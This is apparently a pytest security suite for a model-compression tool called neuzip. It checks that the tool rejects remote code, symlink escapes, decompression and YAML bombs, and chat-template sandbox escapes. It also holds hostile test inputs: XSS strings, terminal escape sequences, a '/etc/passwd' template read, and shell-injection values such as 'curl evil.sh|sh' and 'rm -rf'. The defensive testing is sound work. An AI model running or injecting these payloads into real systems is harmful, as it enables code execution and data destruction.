"""What docs/SECURITY.md says: every test that it names exists, and what no other test shows is shown here."""

from __future__ import annotations

import ast
import json
import os
import re
import shlex
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import forked
import numpy as np
import pytest
from golden.bad import make as bad

from neuzip.compress import Rule, Scheme, compress, decompress, verify
from neuzip.compress.delta_job import compress_delta
from neuzip.compress.export import Gguf, export
from neuzip.compress.sources.folder import FolderSource
from neuzip.errors import FormatError, NeuzipError, UsageError
from neuzip.eval.measures import histograms
from neuzip.eval.report import histogram_pictures as pictures
from neuzip.formats.card.model_card import model_card, split_card
from neuzip.formats.card.text import shown_command
from neuzip.formats.checkpoint import find_checkpoint
from neuzip.formats.export import gguf, gguf_model
from neuzip.formats.hub.push_plan import plan_push

ROOT = Path(__file__).resolve().parents[2]
DOCUMENT = (ROOT / "docs" / "SECURITY.md").read_text(encoding="utf-8")
DEMO = ROOT / "eval" / "demo" / "checkpoint"
Save = Callable[..., Path]
Speak = Callable[..., Any]

HOSTILE = [
    "\x1b]0;owned\x07\x1b[2Jw",
    "a\rb\nc",
    "\u202eevil",
    "<script>alert(1)</script>",
    "``|<img src=x onerror=alert(1)>|`",
    "[x](javascript:alert(1))",
    "\ud800",
]
"""Names of tensors that terminals, browsers or Markdown would make more of."""


# The document


def named_tests() -> list[tuple[str, str]]:
    """File and function of every test in the document."""
    return re.findall(r"`(\w+/test_\w+\.py)::(test_\w+)`", DOCUMENT)


def test_every_named_test_exists() -> None:
    assert len(named_tests()) > 40
    for file, function in named_tests():
        text = (ROOT / "tests" / file).read_text(encoding="utf-8")
        assert re.search(rf"^ *def {function}\(", text, re.MULTILINE), f"{file} has no {function}"


def test_every_attempt_has_a_test() -> None:
    rows = [line.split("|") for line in DOCUMENT.splitlines() if line.startswith("| ")]
    attempts = [row for row in rows if row[1].strip() != "attempt"]
    assert len(attempts) > 25
    assert [row[1] for row in attempts if "::test_" not in row[3]] == []


def test_every_test_of_this_file_is_named() -> None:
    here = set(re.findall(r"^def (test_\w+)", Path(__file__).read_text(encoding="utf-8"), re.MULTILINE))
    assert {f for file, f in named_tests() if file == f"system/{Path(__file__).name}"} == {
        name for name in here if not name.startswith("test_every_")
    }


# Code

FROM_A_FOLDER = re.compile(r"Auto(?:Config|Tokenizer|Model\w*)\.from_(?:pretrained|config)$")
"""Functions of transformers that may find code in a folder."""


@pytest.mark.slow
def test_remote_code_is_never_trusted() -> None:
    """Every call that transformers would ask about says no; nothing can say yes."""
    sources = {
        path: path.read_text(encoding="utf-8")
        for room in ("cli", "compress", "eval", "formats", "kernels", "neuzip", "runtime", "train")
        for path in (ROOT / room).rglob("*.py")
    }
    for path, text in sources.items():
        assert not re.search(r"trust_remote_code(?!=False\b)(?![\"\'])", text), path
        for call in ast.walk(ast.parse(text)):
            if isinstance(call, ast.Call) and FROM_A_FOLDER.search(ast.unparse(call.func)):
                assert "trust_remote_code=False" in ast.unparse(call), (path, call.lineno)
        assert "torch.load(" not in text, path


def test_no_code_of_a_folder_is_run(tmp_path: Path, neuzip: Speak) -> None:
    """Python files beside a config and a tokenizer that name them."""
    source, trap = Path(shutil.copytree(DEMO, tmp_path / "model")), tmp_path / "trap"
    (source / "evil.py").write_text(f"open({str(trap)!r}, 'w')\nclass Evil: pass\n")
    for name, keys in {
        "config.json": ("AutoConfig", "AutoModelForCausalLM"), "tokenizer_config.json": ("AutoTokenizer",),
    }.items():  # fmt: skip
        document = json.loads((source / name).read_text())
        document["auto_map"] = dict.fromkeys(keys, "evil.Evil")
        if "AutoTokenizer" in keys:
            document["auto_map"]["AutoTokenizer"] = ["evil.Evil", None]
        (source / name).write_text(json.dumps(document))
    compress(source, tmp_path / "small")
    for path in (source, tmp_path / "small"):
        said = neuzip("generate", path, "--prompt", "The", "--max-new-tokens", 1, "--device", "cpu")
        assert said.exit_code in (0, 1), said.stderr
    assert (tmp_path / "small" / "evil.py").is_file()
    assert not trap.exists()


@pytest.mark.parametrize("template", ["{{ ''.__class__.__mro__ }}", "{{ open('/etc/passwd') }}", "{{ broken"])
def test_a_chat_template_stays_in_its_sandbox(template: str, tmp_path: Path, neuzip: Speak) -> None:
    source = Path(shutil.copytree(DEMO, tmp_path / "model"))
    about = json.loads((source / "tokenizer_config.json").read_text())
    (source / "tokenizer_config.json").write_text(json.dumps(about | {"chat_template": template}))
    said = neuzip("generate", source, "--prompt", "x", "--chat", "--max-new-tokens", 1, "--device", "cpu")
    assert (said.exit_code, said.stdout) == (1, "")
    assert "its chat template fails: " in said.stderr


@pytest.mark.parametrize("length", ["many", {}, [1]])
def test_a_longest_text_that_is_no_number_is_refused(length: object, tmp_path: Path, neuzip: Speak) -> None:
    source = Path(shutil.copytree(DEMO, tmp_path / "model"))
    about = json.loads((source / "tokenizer_config.json").read_text())
    (source / "tokenizer_config.json").write_text(json.dumps(about | {"model_max_length": length}))
    said = neuzip("generate", source, "--prompt", "x", "--max-new-tokens", 1, "--device", "cpu")
    assert (said.exit_code, said.stdout) == (1, "")
    assert f"field 'model_max_length': {length!r} is no number of tokens" in said.stderr


def test_yaml_of_a_card_makes_strings_only(tmp_path: Path) -> None:
    trap = tmp_path / "trap"
    tag = f"!!python/object/apply:pathlib.Path.touch [{trap}]"
    text = f"---\ntags: [{tag}, a]\nlicense: !!python/name:os mit\n---\n"
    metadata, _ = split_card(text)
    assert not trap.exists()
    assert all(isinstance(value, str) for value in metadata.values())


# Links


@pytest.fixture
def model(tmp_path: Path, save: Save) -> Path:
    """A small plain checkpoint."""
    values = np.random.default_rng(0).standard_normal(3000).astype(np.float32).view(np.uint32) >> 16
    save(tmp_path / "model" / "model.safetensors", {"w": ("BF16", (3000,), values.astype(np.uint16))})
    (tmp_path / "model" / "config.json").write_text("{}")
    return tmp_path / "model"


def test_a_link_out_of_the_folder_is_warned_of(model: Path, tmp_path: Path, neuzip: Speak) -> None:
    secret = tmp_path / "secret"
    secret.write_text("s3cret")
    (model / "notes.txt").symlink_to(secret)
    (model / "same.json").symlink_to("config.json")
    (model / "model.safetensors").rename(tmp_path / "real.safetensors")
    (model / "model.safetensors").symlink_to("../real.safetensors")
    said = neuzip("compress", model, tmp_path / "small")
    assert "warning: notes.txt: a link out of the folder, copied" in said.stderr
    assert "warning: model.safetensors: a link out of the folder, copied" in said.stderr
    assert "same.json" not in said.stderr
    assert (tmp_path / "small" / "notes.txt").read_text() == "s3cret"

    cache = tmp_path / "cache"
    (model / "model.safetensors").unlink()
    (tmp_path / "real.safetensors").rename(model / "model.safetensors")
    (cache / "snapshots" / "main" / "unet").mkdir(parents=True)
    (cache / "blobs").mkdir()
    for number, path in enumerate(p for p in model.iterdir() if not p.is_symlink()):
        shutil.copy(path, cache / "blobs" / str(number))
        (cache / "snapshots" / "main" / path.name).symlink_to(f"../../blobs/{number}")
        (cache / "snapshots" / "main" / "unet" / path.name).symlink_to(f"../../../blobs/{number}")
    for number, folder in enumerate(("main", "main/unet")):
        said = neuzip("compress", cache / "snapshots" / folder, tmp_path / f"of-the-cache-{number}")
        assert (said.exit_code, "a link" in said.stderr) == (0, False)


@pytest.mark.parametrize("overwrite", [False, True])
def test_a_planted_link_is_not_written_through(overwrite: bool, model: Path, tmp_path: Path) -> None:
    compress(model, tmp_path / "small")
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "mine").write_text("mine")
    (tmp_path / "out.neuzip-partial").symlink_to("victim")
    (tmp_path / "file.neuzip-partial").symlink_to("victim/mine")
    for act, source in ((compress, model), (decompress, tmp_path / "small")):
        for src, dst in ((source, "out"), (source / "model.safetensors", "file")):
            with pytest.raises(NeuzipError, match=rf"{dst}\.neuzip-partial: is a link"):
                act(src, tmp_path / dst, overwrite=overwrite)
    with pytest.raises(NeuzipError, match="is a link"):
        export(DEMO, tmp_path / "out", "transformers-bitnet", overwrite=overwrite)
    assert [(p.name, p.read_text()) for p in (tmp_path / "victim").iterdir()] == [("mine", "mine")]


# Sizes


def test_a_bomb_of_aliases_is_measured_first(tmp_path: Path, neuzip: Speak) -> None:
    """A megabyte that is to be written 2,001 times."""
    names, size = [f"a{i}" for i in range(2000)], 1 << 20
    parts = bad.raw()
    data = bytes(size)
    original = {"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}
    for i, name in enumerate(names):
        original[name] = {"dtype": "U8", "shape": [size], "data_offsets": [(i + 1) * size, (i + 2) * size]}
        parts.manifest["tensors"][name] = {"scheme": "alias", "checksum": bad.checksum(data), "of": "w"}
    parts.set_original(original)
    parts.record("w")["checksum"] = bad.checksum(data)
    parts.entries["w"] = ("U8", [size], data)
    path = tmp_path / "bomb.safetensors"
    path.write_bytes(bad.put_together(parts.seal()))
    verdict = verify(path)
    assert (len(verdict.tensors), verdict.nbytes) == (2001, 2001 * size)
    usage = shutil.disk_usage(tmp_path)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("shutil.disk_usage", lambda _: usage._replace(free=10 * size))
        said = neuzip("decompress", path, tmp_path / "out.safetensors")
    assert said.exit_code == 1
    assert f"take {2001 * size:,} bytes, the disk has {10 * size:,} left" in said.stderr
    assert [p.name for p in tmp_path.iterdir()] == ["bomb.safetensors"]


def test_a_delta_of_nothing_takes_no_time(tmp_path: Path) -> None:
    """Three bytes a block that stand for 137 GB; two of the blocks hold something, which is looked at."""
    blocks, size = 1 << 20, 8 << 34
    parts = bad.delta("F64")
    coded, listed = parts.words("w:index")[:2]
    index = np.zeros(blocks, "<u2")
    index[7], index[-1] = coded, listed
    parts.put("w:index", index)
    parts.put("w:choice", bytes(blocks))
    parts.set_original({"w": {"dtype": "F64", "shape": [size // 8], "data_offsets": [0, size]}})
    path = tmp_path / "bomb.safetensors"
    path.write_bytes(bad.put_together(parts.seal()))
    began = time.process_time()
    assert verify(path).nbytes == size
    assert time.process_time() - began < 10  # 80 where every block is decoded

    words = parts.words("w:words")
    for at, problem in ((0, "coded blocks from block 7 on"), (int(coded) + 2, f"block {blocks - 1} of")):
        changed = words.copy()
        changed[at] = 0xFFFF
        parts.put("w:words", changed)
        path.write_bytes(bad.put_together(parts.seal()))
        with pytest.raises(FormatError, match=problem):
            verify(path)


def test_a_yaml_bomb_is_left_out() -> None:
    bomb = "---\nlicense: mit\nx: &a " + "y" * 20_000 + "\ntags: [" + ", ".join(["*a"] * 20_000) + "]\n---\n"
    metadata, _ = split_card(bomb)
    assert metadata["license"] == "mit"
    assert "tags" not in metadata
    few = split_card("---\ntags: [&a b, *a, c]\n---\n")[0]
    assert few == {"tags": ["b", "b", "c"]}


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"vocab_size": 2**31 - 1}, "config.json says 2147483647 rows"),
        ({"num_attention_heads": 2**31 - 1, "head_dim": 2**31 - 2}, "config.json says"),
        ({"head_dim": 7}, "head_dim is 7, which is odd"),
    ],
)
def test_a_config_cannot_ask_for_memory(changes: dict[str, Any], message: str, tmp_path: Path) -> None:
    source = Path(shutil.copytree(DEMO, tmp_path / "model"))
    config = json.loads((source / "config.json").read_text())
    (source / "config.json").write_text(json.dumps(config | changes))
    with pytest.raises(NeuzipError, match=message):
        export(source, tmp_path / "m.gguf", Gguf("tq2_0"))


@pytest.mark.parametrize(
    "token", [5, None, ["a"], "\ud800"], ids=["number", "null", "list", "half of a surrogate pair"]
)
def test_a_token_that_is_no_text_is_refused(token: object, tmp_path: Path) -> None:
    """What export reads of a tokenizer, up to the bytes that it writes."""
    described = gguf_model.GgufModel({"vocab_size": 10}, "llama")
    model = {"type": "BPE", "vocab": {"a": 0}, "merges": []}
    tokenizer = {
        "model": model, "pre_tokenizer": {"type": "ByteLevel"}, "added_tokens": [{"id": 1, "content": token}],
    }  # fmt: skip

    def write() -> None:
        entries = gguf_model.tokenizer_metadata(tokenizer, {}, described, None)
        gguf.GgufWriter(tmp_path / "m.gguf", entries, [])

    with pytest.raises(NeuzipError, match=r"tokenizer\.json: is broken|no Unicode text"):
        write()


# People who read the output


@pytest.fixture
def hostile(tmp_path: Path, save: Save) -> Path:
    """A checkpoint whose names, dtypes and files are hostile to terminals and browsers."""
    rng = np.random.default_rng(0)
    tensors: dict[str, Any] = {
        name: (
            "BF16",
            (40, 60),
            (rng.standard_normal((40, 60)).astype("<f4").view("<u4") >> 16).astype("<u2"),
        )
        for name in HOSTILE
    }
    tensors["odd"] = ("X\x1b[31m|<b>", (4,), np.arange(4, dtype=np.uint8))
    save(tmp_path / "model" / "model.safetensors", tensors)
    (tmp_path / "model" / "config.json").write_text('{"model_type": "\\u001b[31m"}')
    (tmp_path / "model" / "\x1b[31m\r.txt").write_text("x")
    return tmp_path / "model"


ESCAPES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_no_escape_reaches_the_terminal(hostile: Path, tmp_path: Path, neuzip: Speak) -> None:
    small, other = tmp_path / "small", Path(shutil.copytree(hostile, tmp_path / "other"))
    data = bytearray((other / "model.safetensors").read_bytes())
    data[-20_000] ^= 1
    (other / "model.safetensors").write_bytes(data)
    commands: list[tuple[object, ...]] = [
        ("compress", hostile, small, "--mantissa-bits", 3),
        ("inspect", hostile), ("inspect", small), ("verify", small), ("verify", small, "--original", hostile),
        ("diff", hostile, other), ("diff", hostile, small), ("inspect", hostile, "--tensor", "\x1b[31m"),
        ("decompress", small, tmp_path / "back"), ("push", small, "me/x", "--dry-run"),
        ("inspect", "\x1b[31m"), ("\x1b[31m",), ("verify", hostile / "\x1b[31m\r.txt"),
    ]  # fmt: skip
    for command in commands:
        for mode in ([], ["--quiet"], ["--json"]):
            if command[0] in ("compress", "decompress") and mode:
                continue
            said = neuzip(*command, *mode)
            assert said.exit_code in (0, 1, 2), (command, said)
            assert not ESCAPES.search(said.stdout + said.stderr), (command, mode)


@pytest.mark.slow
def test_not_even_a_traceback_has_escapes(hostile: Path, tmp_path: Path, file_forks: forked.Server) -> None:
    compress(hostile, tmp_path / "\x1b[31m")
    path = tmp_path / "\x1b[31m" / "model.safetensors"
    data = bytearray(path.read_bytes())
    data[8 + int.from_bytes(data[:8], "little") + 6000] ^= 1
    path.write_bytes(data)
    environment = os.environ | {"NEUZIP_DEBUG": "1"}
    process = file_forks.start("neuzip", "verify", path.parent, cwd=tmp_path, environment=environment)
    _, stderr = process.communicate(timeout=600)
    assert process.returncode == 1
    assert "Traceback" in stderr
    assert not ESCAPES.search(stderr)


HOSTILE_COMMAND = "org/model; curl evil.sh|sh #$(id)`id`'"


def test_a_name_in_a_command_is_quoted(model: Path, tmp_path: Path, neuzip: Speak) -> None:
    """Hints and cards have commands to paste, with names that somebody else wrote."""
    compress(model, tmp_path / "same")
    compress_delta(tmp_path / "same", model, tmp_path / "d", HOSTILE_COMMAND)
    hint = neuzip("verify", tmp_path / "d", "--original", model).stderr.splitlines()[-1]
    assert shlex.split(hint) == ["hint:", "give", "--base", HOSTILE_COMMAND]
    card = plan_push(tmp_path / "d", "me/x").card
    assert "neuzip apply me/x DST --base BASE\n" in card
    src = model.rename(tmp_path / "a; rm -rf b")
    hint = neuzip("push", src, "me/x").stderr.splitlines()[-1]
    assert shlex.split(hint)[-4:] == ["neuzip", "compress", str(src), "DST"]
    with pytest.raises(UsageError, match="`revision`: 'v1; id' cannot be named in an id"):
        plan_push(tmp_path / "same", "me/x", revision="v1; id")


def test_a_report_has_one_command() -> None:
    """The card shows how figures were measured, as a report says: neuzip with arguments, and nothing else."""
    assert shown_command("neuzip eval m --original 'my base'") == "neuzip eval m --original 'my base'"
    assert shlex.split(shown_command("neuzip eval m; curl evil.sh | sh")) == [
        "neuzip", "eval", "m;", "curl", "evil.sh", "|", "sh",
    ]  # fmt: skip
    assert "\n" not in shown_command("neuzip eval m\nrm -rf /")
    assert shlex.split(shown_command("neuzip 'eval")) == ["neuzip 'eval"]


def test_a_long_message_is_cut(tmp_path: Path, neuzip: Speak) -> None:
    path = tmp_path / "w.safetensors"
    path.write_bytes(bad.plain('{"' + "x" * 1_000_000 + '":[]}')())
    said = neuzip("verify", path)
    assert said.exit_code == 1
    assert all(len(line) < 1100 for line in said.stderr.splitlines())


@pytest.mark.slow
def test_names_in_a_page_are_only_text(hostile: Path) -> None:
    with FolderSource(hostile) as source:
        page = pictures.page(histograms.inspect(source, histograms.select(source, [])), "<script>")
    text = page.decode()
    assert "&lt;script&gt;alert(1)" in text
    assert not re.search(r"<script>alert|<img|<b>", text)
    assert not ESCAPES.search(text)


def test_names_in_a_card_are_only_text(hostile: Path, tmp_path: Path) -> None:
    """Read back as Markdown: no HTML, no links, and as many cells as the table has columns."""
    from markdown_it import MarkdownIt

    compress(hostile, tmp_path / "small")
    card = model_card(find_checkpoint(tmp_path / "small"), "", "me/x", "me/x")
    card.encode()
    assert not ESCAPES.search(card)
    compress(hostile, tmp_path / "lossy", [Rule("*", Scheme("truncated", 3))])
    card = model_card(find_checkpoint(tmp_path / "lossy"), "", "me/x", "me/x")
    card.encode()
    body = card.split("---\n", 2)[2]
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(body)
    html = [t.content for t in tokens if t.type == "html_block"]
    inline = [child for t in tokens for child in t.children or []]
    html += [c.content for c in inline if c.type == "html_inline"]
    assert {re.sub(r"\s+", " ", h).strip() for h in html} <= {
        "<details><summary>Every rounded tensor</summary>", "</details>",
        "<!-- neuzip wrote this page as far as this line -->",
    }  # fmt: skip
    assert not [c for c in inline if c.type in ("link_open", "image")]
    codes = [c.content for c in inline if c.type == "code_inline"]
    assert "<script>alert(1)</script>" in codes
    assert "``|<img src=x onerror=alert(1)>|`" in codes
    assert "\\ud800" in codes
